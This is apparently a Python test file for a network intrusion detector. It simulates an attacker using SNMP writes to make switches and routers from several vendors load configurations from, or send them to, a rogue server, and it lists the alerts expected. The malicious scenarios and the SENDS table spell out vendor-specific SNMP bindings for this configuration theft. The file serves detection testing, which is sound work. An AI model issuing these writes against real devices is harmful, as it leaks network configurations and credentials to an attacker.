"""BW03: more brands and tables: they load a configuration, send theirs, or are told so by who may."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, ROGUE
from bootwarden.scenarios.snmp_rows import (
    CONFIGS,
    CREATE_AND_GO,
    HP_DOWNLOAD,
    HP_INET,
    force10_sends,
    loads,
    orders,
    raised,
    to_inet,
    told,
)
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

LOADING = {
    "10.0.1.31": ("BW03", 1542006072),
    "10.0.1.32": ("BW03", 1542006021),
    "10.0.1.33": ("BW03", 1542006056),
    "10.0.1.34": ("BW03", 1542006035),
}
SENDING = {
    "10.0.1.31": ("BW03", 1542006074),
    "10.0.1.32": ("BW03", 1542006022),
    "10.0.1.33": ("BW03", 1542006029),
    "10.0.1.34": ("BW03", 1542006026),
}


@scenario(
    "BW03",
    "malicious",
    raises=raised(ATTACKER, LOADING),
    site=HQ,
    with_site=Expect(told("SNMP_Config_Copy", ROGUE, CONFIGS)),
)
def bw03_more_brands(wire: Wire) -> None:
    """Force10, HPE, a small Cisco switch and an old 3Com router are each told to load a configuration."""
    orders(wire, ATTACKER, loads(ROGUE))


@scenario(
    "BW03",
    "malicious",
    raises=raised(ATTACKER, SENDING),
    site=HQ,
    with_site=Expect(
        (
            *told("SNMP_Config_Copy", ROGUE, {f"10.0.1.{n}": "stolen" for n in (31, 32, 33)}),
            Notice("SNMP_Config_Copy", "10.0.1.34"),
        )
    ),
)
def bw03_more_brands_send(wire: Wire) -> None:
    """A Force10 and two HPE switches are told to send their configurations, a third to serve its own by TFTP."""
    snmp.Manager(wire, ATTACKER, "10.0.1.31").set(*force10_sends(2**31 - 1, ROGUE, "stolen"))
    put = {2: 1, 3: to_inet(ROGUE), 4: "stolen", 9: 2, 17: 2, 18: 2, 13: CREATE_AND_GO}
    snmp.Manager(wire, ATTACKER, "10.0.1.32").set(*snmp.row(HP_INET, 1, put))
    manager = snmp.Manager(wire, ATTACKER, "10.0.1.33")
    for columns in ({13: 5}, {18: 3}, {17: 2}, {9: 2}, {2: 1}, {3: to_inet(ROGUE)}, {4: "stolen"}, {10: 1}, {13: 1}):
        manager.set(*snmp.row(HP_INET, 1, columns))
    snmp.Manager(wire, ATTACKER, "10.0.1.34").set((f"{HP_DOWNLOAD}.6.0", 1))


@scenario(
    "BW03",
    "benign",
    raises=raised(ADMIN, LOADING),
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw03_more_brands_declared(wire: Wire) -> None:
    """An admin lets switches of these brands load their configurations from the declared server."""
    orders(wire, ADMIN, loads(BOOT_SERVER))


SENDS: dict[str, list[snmp.Binding]] = {
    "10.0.1.11": snmp.row(
        "1.3.6.1.4.1.2011.6.10.1.2.4.1", 3, {2: 3, 3: 2, 4: "stolen.cfg", 5: IPv4Address(ROGUE), 9: 4}
    ),
    "10.0.1.13": snmp.row(
        "1.3.6.1.4.1.89.87.2.1", 1, {3: 1, 7: 3, 8: 3, 9: IPv4Address(ROGUE), 11: "stolen.txt", 12: 1, 17: 4}
    ),
    "10.0.1.14": [
        ("1.3.6.1.4.1.1991.1.1.2.1.5.0", IPv4Address(ROGUE)),
        ("1.3.6.1.4.1.1991.1.1.2.1.8.0", "stolen.cfg"),
        ("1.3.6.1.4.1.1991.1.1.2.1.9.0", 22),
    ],
}


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 4, ATTACKER, "10.0.1.14"), ("BW03", 6, ATTACKER, "10.0.1.11"), ("BW03", 8, ATTACKER, "10.0.1.13")],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Config_Copy", "10.0.1.11", "10.0.6.66", "stolen.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.13", "10.0.6.66", "stolen.txt"),
            Notice("SNMP_Config_Copy", "10.0.1.14", "10.0.6.66", "stolen.cfg"),
        )
    ),
)
def bw03_other_vendors_send(wire: Wire) -> None:
    """Huawei, Radlan and Foundry devices are each told to send their configuration to a rogue server."""
    for device, bindings in SENDS.items():
        snmp.Manager(wire, ATTACKER, device).set(*bindings)
